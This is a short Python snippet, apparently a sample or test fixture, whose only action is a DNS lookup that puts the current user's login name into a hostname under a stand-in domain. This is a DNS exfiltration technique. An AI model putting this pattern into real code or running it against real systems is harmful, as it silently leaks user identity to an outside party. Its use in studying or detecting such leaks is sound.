import getpass
import socket

socket.gethostbyname(getpass.getuser() + '.n.collect.invalid')
